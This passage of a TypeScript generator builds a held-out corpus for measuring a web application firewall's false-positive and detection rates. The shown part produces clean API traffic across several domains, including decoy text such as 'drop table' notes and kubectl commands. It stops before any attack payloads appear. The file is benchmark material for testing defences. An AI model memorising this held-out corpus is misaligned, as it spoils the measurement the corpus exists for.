/**
 * Held-out WAF corpus 25: realistic API traffic for measuring the WAF's false-positive rate (clean) and
 * detection rate (attacks), written blind — without reading the WAF source, its docs, its tests, or any
 * other corpus file. Only the `CorpusRequest` record shape was looked at.
 *
 * Domains (none used by earlier corpora): a dental practice management system (charts, treatment plans,
 * insurance claims), an energy trading and grid operations platform (bids, outage notes, SCADA-ish tags),
 * an SRE runbook / ChatOps platform (runbook steps, slash commands, incident timelines), an online auction
 * house (lots, provenance, bids), a K-12 homework app (math answers, short essays, beginner code), fashion
 * e-commerce (size guides, reviews, returns), a genomics pipeline service (workflow configs, sample sheets,
 * variant annotations) and real-time public transit (GTFS feeds, service alerts, trip planning).
 *
 * Generation: a self-contained mulberry32 PRNG with a fixed seed drives template pools per kind, so the
 * output is deterministic. Clean requests cover REST reads/writes, merge-patch, json-patch, JSON:API,
 * GraphQL (POST and persisted GET), forms, multipart uploads, NDJSON, deletes, rich-text HTML, source code,
 * multilingual prose and searches. Attacks are exactly 30 per family (sql, nosql, template, command, xss,
 * log4shell, ssrf, path-traversal, prototype-pollution), each a working payload hidden in a realistic
 * carrier: nested JSON fields, arrays, object keys, \u-escaped strings, JSON inside a string, base64 fields
 * an API would decode, GraphQL variables, query strings and headers. Attacks are never placed in the
 * fields listed in `HELDOUT25_EXCLUDE_FIELDS`, which legitimately carry HTML or source code.
 *
 * Run directly (`node bench/waf/corpus/heldout25.ts`) to write clean-heldout25.json and
 * attacks-heldout25.json beside this file and print counts per kind / family.
 */
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attack payloads and code snippets are literal ${...} text.
import { writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { CorpusRequest } from './generate.ts';

/** JSON body paths that legitimately hold rich-text HTML or source code; attacks never use them. */
export const HELDOUT25_EXCLUDE_FIELDS: string[] = [
  'body.content.html',
  'body.snippet.source',
  'body.workflow.script',
];

type Json = string | number | boolean | null | Json[] | { [k: string]: Json | undefined };

/** mulberry32: tiny deterministic 32-bit PRNG. */
function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rnd = mulberry32(0x25d3_47a1);
const int = (lo: number, hi: number): number => lo + Math.floor(rnd() * (hi - lo + 1));
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)] as T;
const chance = (p: number): boolean => rnd() < p;
const hex = (n: number): string => {
  let s = '';
  for (let i = 0; i < n; i++) s += '0123456789abcdef'[int(0, 15)];
  return s;
};
const uuid = (): string => `${hex(8)}-${hex(4)}-4${hex(3)}-${pick(['8', '9', 'a', 'b'])}${hex(3)}-${hex(12)}`;
const b64url = (s: string): string => Buffer.from(s, 'utf8').toString('base64url');
const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
const pad = (n: number, w = 2): string => String(n).padStart(w, '0');
const isoDate = (): string => `2026-${pad(int(1, 11))}-${pad(int(1, 28))}`;
const isoTime = (): string => `${isoDate()}T${pad(int(0, 23))}:${pad(int(0, 59))}:${pad(int(0, 59))}Z`;
const money = (lo: number, hi: number): string => (int(lo * 100, hi * 100) / 100).toFixed(2);
const qs = (o: Record<string, string | number | boolean>): string =>
  Object.entries(o)
    .map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(String(v))}`)
    .join('&');

const USER_AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
  'Mozilla/5.0 (Linux; Android 15; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36',
  'okhttp/4.12.0',
  'TransitNow/7.3.1 (iOS 18.1; iPhone15,2)',
  'DentaDesk-Sync/3.14.2 (+https://dentadesk.example/agent)',
  'python-requests/2.32.3',
  'axios/1.7.7',
  'curl/8.10.1',
  'Go-http-client/2.0',
  'nf-tower-agent/0.5.2',
  'SlackBot 1.0 (+https://api.slack.com/robots)',
  'HomeworkHero/5.2.0 (Android 14; SM-A546B)',
];

function jwt(): string {
  const header = b64url(JSON.stringify({ alg: pick(['RS256', 'ES256', 'HS256']), typ: 'JWT', kid: hex(8) }));
  const payload = b64url(
    JSON.stringify({
      sub: uuid(),
      iss: pick([
        'https://auth.gatehouse.example',
        'https://login.transit.example',
        'https://sso.dentadesk.example',
      ]),
      aud: 'api',
      iat: 1780000000 + int(0, 9000000),
      exp: 1790000000 + int(0, 9000000),
      scope: pick(['read write', 'read', 'openid profile email', 'bids:write', 'runbooks:exec']),
    }),
  );
  return `${header}.${payload}.${b64url(hex(43))}`;
}

function baseHeaders(extra: Record<string, string> = {}): Record<string, string> {
  const h: Record<string, string> = {
    'user-agent': pick(USER_AGENTS),
    accept: pick([
      'application/json',
      'application/json, text/plain, */*',
      '*/*',
      'application/problem+json, application/json',
    ]),
  };
  if (chance(0.85)) h.authorization = `Bearer ${jwt()}`;
  if (chance(0.3))
    h['accept-language'] = pick([
      'en-US,en;q=0.9',
      'de-DE,de;q=0.8,en;q=0.5',
      'ja-JP',
      'es-MX,es;q=0.9',
      'fr-CA',
    ]);
  if (chance(0.4)) h['x-request-id'] = uuid();
  return { ...h, ...extra };
}

const clean: CorpusRequest[] = [];
const attacks: CorpusRequest[] = [];

function addClean(
  kind: string,
  method: string,
  path: string,
  headers: Record<string, string>,
  body = '',
): void {
  clean.push({ id: `h25c${clean.length + 1}`, kind, method, path, headers, body });
}

function addAttack(
  family: string,
  technique: string,
  method: string,
  path: string,
  headers: Record<string, string>,
  body = '',
): void {
  attacks.push({
    id: `h25a${attacks.length + 1}`,
    kind: 'attack',
    family,
    technique,
    method,
    path,
    headers,
    body,
  });
}

const jsonHeaders = (ct = 'application/json'): Record<string, string> => baseHeaders({ 'content-type': ct });

// ---------------------------------------------------------------------------------------------------------
// Shared vocabulary
// ---------------------------------------------------------------------------------------------------------

const PATIENT_NAMES = [
  'María José Ortega',
  "Liam O'Connor",
  '佐藤 花子',
  'Zoë Van der Berg',
  'Chidi Okeke',
  'Ana-Lucía Pérez',
];
const TOOTH_NOTES = [
  'MOD composite #14, pt reports cold sensitivity — recheck in 2 wks',
  'Perio charting: 4-5mm pockets on #2-#4 distal, BOP+. Recommend SRP UR/LR quads.',
  "Pt's mother says he grinds at night; fabricate nightguard (D9944).",
  'Crown prep #30, shade A2, impression sent to lab (case #L-4471). Temp w/ TempBond.',
  'Patient declined X-rays again; signed informed refusal form. Drop table talk — she just hates the bib.',
  'Fractured cusp on 26 (FDI). Discussed onlay vs. full crown; pt wants to "think it over".',
];
const GRID_NOTES = [
  'Unit 3 derate to 180 MW from 14:00 EPT due to feedwater pump vibration; RTO notified.',
  'Planned outage on 138kV line WEST-KNOX-2 for breaker maintenance, switching order SO-2291.',
  'Forced outage: GSU transformer tripped on sudden pressure relay. Select crew dispatched, ETR 22:00.',
  'Curtailment instruction from ISO: reduce wind output at node HBRK_WND_1 to 42 MW — drop to min and hold.',
  'Temp spike on tag PLANT2.BOILER.TT-104.PV (548 °C), alarm acknowledged by operator jkwan.',
];
const SRE_NOTES = [
  'Rolled back api-gateway to v2.41.3; error rate back under 0.2%. Keeping the incident open for 30 min.',
  'Ran `kubectl -n payments rollout restart deploy/ledger-writer` — pods healthy after ~90s.',
  'p99 latency on /checkout spiked to 4.2s; looks like the pg connection pool is saturated (select count(*) from pg_stat_activity showed 497/500).',
  'Paged DBA on-call. Do NOT run DROP on the replica, we need it for the postmortem.',
  'Disk on es-data-07 at 93%; ran curator to delete indices older than 14d. /var/log cleared of rotated gz files.',
  'Customer-facing status page updated: "Some users may see delayed notifications." ETA for fix 15:30 UTC.',
];
const AUCTION_NOTES = [
  'Provenance: Acquired by the present owner’s grandfather in Paris, c. 1952; thence by descent.',
  'Condition: minor foxing to margins, otherwise fine. Frame not examined out of frame.',
  "Signed 'J. Whitcombe' lower right; inscribed verso 'for Ellie, with love'.",
  'Exhibited: Royal Academy Summer Exhibition, 1961, no. 483. Literature: see catalogue raisonné, p. 212.',
  'Lot sold subject to Artist’s Resale Right (ARR). Buyer’s premium 25% up to £500,000.',
];
const HOMEWORK_ANSWERS = [
  'x = 7 because 3x + 4 = 25 so 3x = 21 and 21 / 3 = 7',
  'The area is 1/2 * 8 * 5 = 20 cm²',
  'I think the answer is (a + b)^2 = a^2 + 2ab + b^2 but I forgot how to show it',
  'slope = (9 - 3) / (4 - 1) = 2, y-intercept = 1 so y = 2x + 1',
  '√144 = 12 and 12 × 12 = 144 ✅',
  'Photosynthesis: 6CO2 + 6H2O -> C6H12O6 + 6O2 (needs light!!)',
];
const FASHION_REVIEWS = [
  'Runs small — I’m usually an M but had to order an L. Fabric is soft and doesn’t pill after 5 washes.',
  'Love the color!! 😍 The "sage" is more grey-green than in the photos though.',
  'Returned it: the seam on the left sleeve was coming apart. Refund took 3 days, great service.',
  'Ich trage normalerweise 38, die 38 passt perfekt. Länge bis knapp übers Knie.',
  'サイズ感はちょうど良いです。生地が少し薄いので秋まで着られます。',
  '5\'6", 135 lbs, ordered S/36 — fits like a glove. Would buy in every color <3',
];
const GENOMICS_NOTES = [
  'Sample NA12878 failed QC: mean coverage 18x (< 30x threshold), re-sequence on NovaSeq lane 3.',
  'Variant chr17:43094464 G>A (BRCA1 c.3607C>T, p.Arg1203Ter) classified Pathogenic per ACMG PVS1+PM2.',
  'Switching aligner from bwa-mem to bwa-mem2; ~2.3x faster on our 64-core nodes.',
  'Adapter trimming with fastp --detect_adapter_for_pe; duplicate rate 11.4%.',
];
const TRANSIT_NOTES = [
  'Route 42 detoured via Main St & 5th Ave due to water main break. Stops 1102–1109 not served.',
  'Red Line: shuttle buses replace trains between Alewife and Harvard this weekend.',
  'Elevator at Union Sq (north mezzanine) out of service until Fri. Use the ramp on 14th St.',
  'Línea 3: servicio con demoras de 10–15 min por incidente en la vía.',
  '由于信号故障，2号线列车运行间隔延长，请乘客合理安排出行。',
];

// ---------------------------------------------------------------------------------------------------------
// Clean traffic
// ---------------------------------------------------------------------------------------------------------

function genRestGet(): void {
  const makers: Array<() => string> = [
    () =>
      `/v2/patients/${uuid()}/chart?${qs({ include: 'perio,restorations', as_of: isoDate(), notation: pick(['universal', 'fdi', 'palmer']) })}`,
    () =>
      `/v2/claims?${qs({ status: pick(['submitted', 'denied', 'paid', 'pending-eob']), payer: pick(['delta-dental', 'metlife', 'cigna']), page: int(1, 9), per_page: 50 })}`,
    () =>
      `/api/markets/da/bids?${qs({ node: pick(['HB_NORTH', 'LZ_HOUSTON', 'PJM_WEST_HUB']), date: isoDate(), he: int(1, 24) })}`,
    () =>
      `/api/scada/tags/${pick(['PLANT2.BOILER.TT-104.PV', 'SUB7.XFMR1.OIL_TEMP', 'WF3.T12.WIND_SPD'])}/history?${qs({ from: isoTime(), to: isoTime(), agg: '5m' })}`,
    () =>
      `/api/incidents/INC-${int(1000, 9999)}/timeline?${qs({ since: isoTime(), types: 'comment,status,page' })}`,
    () =>
      `/api/runbooks?${qs({ service: pick(['ledger-writer', 'checkout', 'search-indexer']), tag: 'sev1', sort: '-updated_at' })}`,
    () =>
      `/v1/auctions/${pick(['AUC-2026-LDN-11', 'AUC-2026-NYC-07'])}/lots?${qs({ category: pick(['old-masters', 'watches', 'wine', 'jewellery']), estimate_min: int(500, 5000), currency: pick(['GBP', 'USD', 'EUR']) })}`,
    () => `/v1/lots/${int(1, 450)}/bids?${qs({ limit: 25, order: 'desc' })}`,
    () =>
      `/api/classes/${int(100, 999)}/assignments?${qs({ due_before: isoDate(), subject: pick(['math', 'ela', 'science', 'cs']), status: 'open' })}`,
    () =>
      `/api/products?${qs({ category: pick(['dresses', 'denim', 'outerwear', 'sneakers']), size: pick(['XS', 'S', 'M', 'L', '38', '40', 'W32/L34']), color: pick(['sage', 'navy', 'ecru']), sort: 'price_asc' })}`,
    () =>
      `/api/size-guides/${pick(['womens-tops', 'mens-denim', 'kids-shoes'])}?${qs({ region: pick(['EU', 'US', 'UK', 'JP']), unit: pick(['cm', 'in']) })}`,
    () =>
      `/v1/runs/${uuid()}/tasks?${qs({ status: 'FAILED', process: pick(['BWA_MEM2', 'GATK_HAPLOTYPECALLER', 'FASTQC']) })}`,
    () =>
      `/v1/variants?${qs({ gene: pick(['BRCA1', 'CFTR', 'TP53', 'MLH1']), clinsig: 'pathogenic,likely_pathogenic', assembly: 'GRCh38', region: `chr${int(1, 22)}:${int(1000000, 9000000)}-${int(9000001, 19000000)}` })}`,
    () => `/gtfs-rt/trip-updates?${qs({ route_id: pick(['42', 'RED', 'B63', 'M15-SBS']), format: 'json' })}`,
    () =>
      `/api/plan?${qs({ fromPlace: `${(40 + rnd()).toFixed(5)},${(-74 + rnd()).toFixed(5)}`, toPlace: `${(40 + rnd()).toFixed(5)},${(-74 + rnd()).toFixed(5)}`, time: `${pad(int(5, 23))}:${pad(int(0, 59))}`, date: isoDate(), mode: 'TRANSIT,WALK', wheelchair: chance(0.3) })}`,
    () => `/api/stops/${int(1000, 9999)}/arrivals?${qs({ minutes: int(15, 90), include_alerts: true })}`,
  ];
  for (let i = 0; i < 40; i++) addClean('rest-get', 'GET', pick(makers)(), baseHeaders());
}

function genRestWrite(): void {
  const makers: Array<() => [string, string, Json]> = [
    () => [
      'POST',
      '/v2/treatment-plans',
      {
        patientId: uuid(),
        provider: { npi: String(int(1000000000, 1999999999)), name: 'Dr. Priya Natarajan, DDS' },
        phases: [
          {
            seq: 1,
            procedures: [
              { cdt: 'D4341', teeth: ['UR'], fee: money(180, 260) },
              { cdt: 'D4342', teeth: ['LL'], fee: money(120, 180) },
            ],
          },
          {
            seq: 2,
            procedures: [
              { cdt: 'D2740', tooth: '30', fee: money(950, 1400), note: 'porcelain/ceramic crown' },
            ],
          },
        ],
        notes: pick(TOOTH_NOTES),
        estimatedInsurance: money(200, 900),
      },
    ],
    () => [
      'POST',
      '/v2/claims',
      {
        claimType: 'ADA-2019',
        subscriber: {
          id: `W${int(100000000, 999999999)}`,
          name: pick(PATIENT_NAMES),
          dob: `19${int(50, 99)}-${pad(int(1, 12))}-${pad(int(1, 28))}`,
        },
        lines: [
          {
            cdt: pick(['D0120', 'D1110', 'D0274', 'D2391']),
            tooth: String(int(1, 32)),
            surfaces: pick(['MO', 'DO', 'MOD', 'B', '']),
            fee: money(40, 320),
          },
        ],
        remarks:
          'Narrative: pt presented w/ fractured cusp; see attached radiograph & intraoral photo. Prior auth #PA-' +
          int(10000, 99999),
      },
    ],
    () => [
      'POST',
      '/api/markets/da/bids',
      {
        portfolio: 'WEST-THERMAL',
        node: pick(['HB_NORTH', 'LZ_HOUSTON']),
        deliveryDate: isoDate(),
        curve: Array.from({ length: 4 }, (_, k) => ({ mw: 50 * (k + 1), price: Number(money(18, 95)) })),
        comment: pick([
          'Select hours only; drop HE18-HE20 if gas > $4.10',
          'Union of HE1-HE6 offers per trader desk',
          'Same as yesterday, -5% on HE17',
        ]),
      },
    ],
    () => [
      'PUT',
      `/api/outages/OUT-${int(10000, 99999)}`,
      {
        equipment: pick(['XFMR-SUB7-T1', 'LINE-WEST-KNOX-2', 'GEN-U3']),
        type: pick(['planned', 'forced']),
        start: isoTime(),
        end: isoTime(),
        notes: pick(GRID_NOTES),
        mwImpact: int(5, 400),
      },
    ],
    () => [
      'POST',
      `/api/incidents/INC-${int(1000, 9999)}/timeline`,
      {
        author: pick(['@oncall-sre', 'maya.k', 'dmitri']),
        at: isoTime(),
        type: 'comment',
        text: pick(SRE_NOTES),
      },
    ],
    () => [
      'POST',
      '/v1/lots',
      {
        saleId: 'AUC-2026-LDN-11',
        lotNumber: int(1, 450),
        title: pick([
          'A George III silver tea urn, London 1789',
          'Patek Philippe Ref. 3970E perpetual calendar chronograph',
          'Château Latour 1982 (12 bottles, OWC)',
        ]),
        estimate: { low: int(2000, 20000), high: int(20001, 60000), currency: 'GBP' },
        provenance: [pick(AUCTION_NOTES), pick(AUCTION_NOTES)],
        dimensions: `${int(10, 90)} x ${int(10, 90)} cm (${int(4, 35)} x ${int(4, 35)} in.)`,
      },
    ],
    () => [
      'POST',
      `/v1/lots/${int(1, 450)}/bids`,
      {
        amount: int(1000, 90000),
        currency: 'GBP',
        maxBid: chance(0.5) ? int(90000, 120000) : null,
        paddle: int(100, 999),
        idempotencyKey: uuid(),
      },
    ],
    () => [
      'POST',
      `/api/assignments/${int(1000, 9999)}/submissions`,
      {
        studentId: uuid(),
        answers: [
          { q: 1, text: pick(HOMEWORK_ANSWERS) },
          { q: 2, text: pick(HOMEWORK_ANSWERS) },
        ],
        submittedAt: isoTime(),
      },
    ],
    () => [
      'POST',
      '/api/returns',
      {
        orderId: `FS-${int(100000, 999999)}`,
        items: [
          {
            sku: `DRS-${hex(6).toUpperCase()}-${pick(['S', 'M', 'L'])}`,
            qty: 1,
            reason: pick(['too_small', 'not_as_pictured', 'defective']),
            comment: pick(FASHION_REVIEWS),
          },
        ],
        refundMethod: pick(['original', 'store_credit']),
      },
    ],
    () => [
      'POST',
      '/v1/samples',
      {
        sampleId: `S${int(1000, 9999)}`,
        project: 'WGS-COHORT-B',
        fastq_1: `s3://seq-raw/2026/run${int(100, 999)}/S${int(1000, 9999)}_R1_001.fastq.gz`,
        fastq_2: `s3://seq-raw/2026/run${int(100, 999)}/S${int(1000, 9999)}_R2_001.fastq.gz`,
        strandedness: pick(['reverse', 'forward', 'unstranded']),
        notes: pick(GENOMICS_NOTES),
      },
    ],
    () => [
      'POST',
      '/api/service-alerts',
      {
        cause: pick(['CONSTRUCTION', 'TECHNICAL_PROBLEM', 'WEATHER', 'ACCIDENT']),
        effect: pick(['DETOUR', 'REDUCED_SERVICE', 'SIGNIFICANT_DELAYS']),
        informed_entity: [{ route_id: pick(['42', 'RED', 'B63']) }, { stop_id: String(int(1000, 9999)) }],
        header_text: { translation: [{ text: pick(TRANSIT_NOTES), language: 'en' }] },
        active_period: [{ start: 1780000000 + int(0, 99999), end: 1780200000 + int(0, 99999) }],
      },
    ],
  ];
  for (let i = 0; i < 34; i++) {
    const [m, p, b] = pick(makers)();
    addClean('rest-write', m, p, jsonHeaders(), JSON.stringify(b));
  }
}

function genMergePatch(): void {
  const makers: Array<() => [string, Json]> = [
    () => [
      `/v2/patients/${uuid()}`,
      {
        preferredName: pick(['Bea', 'Jules', 'Kenji']),
        phone: `+1-555-${int(100, 999)}-${int(1000, 9999)}`,
        allergies: pick([['latex'], ['penicillin', 'codeine'], null]),
      },
    ],
    () => [`/v2/treatment-plans/${uuid()}`, { status: 'accepted', signedAt: isoTime(), notes: null }],
    () => [`/api/outages/OUT-${int(10000, 99999)}`, { end: isoTime(), notes: pick(GRID_NOTES) }],
    () => [
      `/api/incidents/INC-${int(1000, 9999)}`,
      { severity: pick(['sev1', 'sev2', 'sev3']), commander: '@maya.k', summary: pick(SRE_NOTES) },
    ],
    () => [
      `/v1/lots/${int(1, 450)}`,
      { estimate: { low: int(1000, 5000) }, condition: pick(AUCTION_NOTES), withdrawn: false },
    ],
    () => [
      `/api/users/me/profile`,
      {
        displayName: pick(['Mx. Ray', 'Señora Ruiz', 'Kwame']),
        sizeProfile: { top: 'M', bottom: '32/32', shoeEU: 43 },
      },
    ],
    () => [
      `/v1/runs/${uuid()}`,
      { labels: { priority: 'high', requester: 'jchen@lab.example.org' }, resume: true },
    ],
    () => [
      `/api/stops/${int(1000, 9999)}`,
      {
        stop_name: pick(['Main St & 5th Ave', 'Gare du Nord (Quai 3)', "O'Hare Terminal 2"]),
        wheelchair_boarding: 1,
      },
    ],
  ];
  for (let i = 0; i < 28; i++) {
    const [p, b] = pick(makers)();
    addClean('merge-patch', 'PATCH', p, jsonHeaders('application/merge-patch+json'), JSON.stringify(b));
  }
}

function genJsonPatch(): void {
  const makers: Array<() => [string, Json]> = [
    () => [
      `/v2/patients/${uuid()}/chart`,
      [
        {
          op: 'replace',
          path: `/teeth/${int(1, 32)}/status`,
          value: pick(['missing', 'implant', 'crown', 'watch']),
        },
        { op: 'add', path: '/notes/-', value: pick(TOOTH_NOTES) },
      ],
    ],
    () => [
      `/api/runbooks/${uuid()}`,
      [
        {
          op: 'add',
          path: `/steps/${int(0, 6)}`,
          value: {
            title: 'Drain node',
            command: 'kubectl drain ip-10-0-3-17 --ignore-daemonsets --delete-emptydir-data',
          },
        },
        { op: 'test', path: '/version', value: int(3, 40) },
      ],
    ],
    () => [
      `/v1/lots/${int(1, 450)}`,
      [
        { op: 'replace', path: '/estimate/high', value: int(20000, 90000) },
        { op: 'remove', path: '/reserve' },
      ],
    ],
    () => [
      `/api/products/${hex(6)}`,
      [
        { op: 'replace', path: '/variants/0/stock', value: int(0, 80) },
        { op: 'move', from: '/images/2', path: '/images/0' },
      ],
    ],
    () => [
      `/v1/pipelines/${uuid()}`,
      [
        { op: 'replace', path: '/params/genome', value: 'GRCh38' },
        { op: 'copy', from: '/params/outdir', path: '/params/publish_dir' },
      ],
    ],
    () => [
      `/api/feeds/${pick(['mta', 'sfmta', 'ttc'])}/config`,
      [
        { op: 'replace', path: '/poll_interval_s', value: int(10, 60) },
        { op: 'add', path: '/routes/-', value: pick(['M15-SBS', '42', 'Q70']) },
      ],
    ],
  ];
  for (let i = 0; i < 26; i++) {
    const [p, b] = pick(makers)();
    addClean('json-patch', 'PATCH', p, jsonHeaders('application/json-patch+json'), JSON.stringify(b));
  }
}

function genJsonApi(): void {
  const makers: Array<() => [string, string, Json]> = [
    () => [
      'POST',
      '/jsonapi/appointments',
      {
        data: {
          type: 'appointments',
          attributes: {
            start: isoTime(),
            durationMin: pick([30, 60, 90]),
            reason: pick(['recall + 4BWX', 'emergency: swelling LL', 'crown seat #30']),
            chair: `Op ${int(1, 6)}`,
          },
          relationships: { patient: { data: { type: 'patients', id: uuid() } } },
        },
      },
    ],
    () => [
      'PATCH',
      `/jsonapi/lots/${int(1, 450)}`,
      { data: { type: 'lots', id: String(int(1, 450)), attributes: { description: pick(AUCTION_NOTES) } } },
    ],
    () => [
      'POST',
      '/jsonapi/reviews',
      {
        data: {
          type: 'reviews',
          attributes: {
            rating: int(1, 5),
            title: pick(['Perfect fit', 'Meh', 'Not as pictured', 'Obsessed!']),
            body: pick(FASHION_REVIEWS),
            fit: pick(['runs_small', 'true_to_size', 'runs_large']),
          },
          relationships: { product: { data: { type: 'products', id: hex(8) } } },
        },
      },
    ],
    () => [
      'POST',
      '/jsonapi/annotations',
      {
        data: {
          type: 'annotations',
          attributes: {
            variant: `chr${int(1, 22)}-${int(100000, 9999999)}-${pick(['A', 'C', 'G', 'T'])}-${pick(['A', 'C', 'G', 'T'])}`,
            comment: pick(GENOMICS_NOTES),
            acmg: ['PM2', 'PP3'],
          },
        },
      },
    ],
    () => [
      'GET',
      `/jsonapi/trips?${qs({ 'filter[route]': pick(['42', 'RED']), 'fields[trips]': 'headsign,direction_id', include: 'stop_times', 'page[size]': 20 })}`,
      null,
    ],
    () => [
      'POST',
      '/jsonapi/homework-comments',
      {
        data: {
          type: 'homework-comments',
          attributes: {
            text: pick([
              'Great work! Check step 3 again — you dropped a negative sign.',
              'Can you explain why you divided by 2 here?',
              'Well done 🌟',
            ]),
          },
        },
      },
    ],
  ];
  for (let i = 0; i < 28; i++) {
    const [m, p, b] = pick(makers)();
    const h = baseHeaders({ accept: 'application/vnd.api+json' });
    if (b === null) addClean('jsonapi', m, p, h);
    else addClean('jsonapi', m, p, { ...h, 'content-type': 'application/vnd.api+json' }, JSON.stringify(b));
  }
}

const GQL_OPS: Array<() => { query: string; operationName: string; variables: Json }> = [
  () => ({
    operationName: 'LotWithBids',
    query:
      'query LotWithBids($id: ID!, $first: Int = 10) { lot(id: $id) { title estimate { low high currency } bids(first: $first) { edges { node { amount paddle placedAt } } } } }',
    variables: { id: `LOT-${int(1, 450)}`, first: int(5, 30) },
  }),
  () => ({
    operationName: 'PlaceBid',
    query:
      'mutation PlaceBid($input: BidInput!) { placeBid(input: $input) { ok bid { id amount } errors { code message } } }',
    variables: { input: { lotId: `LOT-${int(1, 450)}`, amount: int(500, 50000), currency: 'USD' } },
  }),
  () => ({
    operationName: 'TripPlan',
    query:
      'query TripPlan($from: LatLng!, $to: LatLng!, $at: DateTime) { plan(from: $from, to: $to, dateTime: $at) { itineraries { duration legs { mode route { shortName } from { name } to { name } } } } }',
    variables: { from: { lat: 40.7128, lng: -74.006 }, to: { lat: 40.758, lng: -73.9855 }, at: isoTime() },
  }),
  () => ({
    operationName: 'IncidentFeed',
    query:
      'query IncidentFeed($service: String, $after: String) { incidents(service: $service, after: $after) { nodes { id title severity timeline { at text } } pageInfo { endCursor } } }',
    variables: {
      service: pick(['checkout', 'ledger-writer', 'search']),
      after: b64(`cursor:${int(1, 900)}`),
    },
  }),
  () => ({
    operationName: 'PatientChart',
    query:
      'query PatientChart($id: ID!) { patient(id: $id) { name chart { teeth { number status surfaces } perio { site depth bleeding } } } }',
    variables: { id: uuid() },
  }),
  () => ({
    operationName: 'SubmitAnswer',
    query: 'mutation SubmitAnswer($a: AnswerInput!) { submitAnswer(answer: $a) { correct feedback } }',
    variables: { a: { questionId: `Q-${int(1, 400)}`, value: pick(HOMEWORK_ANSWERS) } },
  }),
  () => ({
    operationName: 'VariantLookup',
    query:
      'query VariantLookup($gene: String!, $hgvs: String) { variants(gene: $gene, hgvs: $hgvs) { id consequence gnomadAF clinvar { significance reviewStatus } } }',
    variables: {
      gene: pick(['BRCA2', 'CFTR', 'LDLR']),
      hgvs: pick(['c.1521_1523delCTT', 'c.5946delT', 'p.Gly551Asp']),
    },
  }),
];

function genGraphql(): void {
  for (let i = 0; i < 30; i++) {
    const op = pick(GQL_OPS)();
    if (i % 3 === 2) {
      const ext = { persistedQuery: { version: 1, sha256Hash: hex(64) } };
      const path = `/graphql?${qs({ operationName: op.operationName, variables: JSON.stringify(op.variables), extensions: JSON.stringify(ext) })}`;
      addClean('graphql', 'GET', path, baseHeaders());
    } else {
      addClean('graphql', 'POST', '/graphql', jsonHeaders(), JSON.stringify(op));
    }
  }
}

function genForm(): void {
  const makers: Array<() => [string, Record<string, string>]> = [
    () => [
      '/api/chatops/slack/commands',
      {
        token: hex(24),
        team_id: `T${hex(8).toUpperCase()}`,
        channel_name: 'inc-2291-checkout',
        user_name: pick(['maya.k', 'dmitri', 'oncall']),
        command: pick(['/runbook', '/incident', '/page']),
        text: pick([
          'run restart-ledger-writer --env=prod --confirm',
          'status sev2 "Checkout errors > 5%"',
          'dba-oncall urgent: replica lag 900s',
          'timeline add "rolled back to v2.41.3 && cleared cache"',
        ]),
        response_url: `https://hooks.slack.com/commands/T0/${int(100000, 999999)}/${hex(24)}`,
      },
    ],
    () => [
      '/login',
      {
        username: pick(['front.desk@smilecare.example', 'hygienist2']),
        password: `Spring${int(2020, 2026)}!${hex(3)}`,
        remember_me: 'on',
      },
    ],
    () => [
      '/api/newsletter',
      {
        email: `${pick(['ana', 'li.wei', 'o.brien'])}+style@mail.example.com`,
        prefs: 'new-arrivals,sale',
        locale: pick(['en-GB', 'fr-FR', 'ja-JP']),
      },
    ],
    () => [
      '/api/feedback',
      {
        route: pick(['42', 'B63']),
        rating: String(int(1, 5)),
        comment: pick([
          'Bus was 20 min late & driver skipped my stop!',
          'Great driver today, very patient w/ my stroller :)',
          'AC broken on bus #7712 — 35°C inside',
        ]),
      },
    ],
    () => [
      '/oauth/token',
      {
        grant_type: 'client_credentials',
        client_id: `grid-ops-${hex(6)}`,
        client_secret: hex(40),
        scope: 'scada:read bids:write',
      },
    ],
    () => [
      '/api/bids/quick',
      {
        lot: String(int(1, 450)),
        amount: String(int(100, 9000)),
        paddle: String(int(100, 999)),
        confirm: 'yes',
      },
    ],
  ];
  for (let i = 0; i < 28; i++) {
    const [p, f] = pick(makers)();
    addClean(
      'form',
      'POST',
      p,
      baseHeaders({ 'content-type': 'application/x-www-form-urlencoded' }),
      new URLSearchParams(f).toString(),
    );
  }
}

function genMultipart(): void {
  const makers: Array<
    () => [string, Record<string, string>, { name: string; filename: string; type: string; content: string }]
  > = [
    () => [
      `/v2/patients/${uuid()}/images`,
      { modality: 'bitewing', tooth: String(int(1, 32)), takenAt: isoTime() },
      {
        name: 'file',
        filename: `BWX_${int(1000, 9999)}.jpg`,
        type: 'image/jpeg',
        content: '\u00ff\u00d8\u00ff\u00e0 JFIF binary-ish' + hex(40),
      },
    ],
    () => [
      '/v1/samplesheets',
      { project: 'RNASEQ-Q4', pipeline: 'nf-core/rnaseq' },
      {
        name: 'sheet',
        filename: 'samplesheet.csv',
        type: 'text/csv',
        content: `sample,fastq_1,fastq_2,strandedness\nCTRL_REP1,s3://seq/CTRL_1_R1.fq.gz,s3://seq/CTRL_1_R2.fq.gz,reverse\nTRT_REP1,s3://seq/TRT_1_R1.fq.gz,s3://seq/TRT_1_R2.fq.gz,reverse\n`,
      },
    ],
    () => [
      '/api/gtfs/upload',
      { agency: pick(['mta', 'ttc', 'rtd']), effective: isoDate() },
      {
        name: 'feed',
        filename: 'stops.txt',
        type: 'text/plain',
        content:
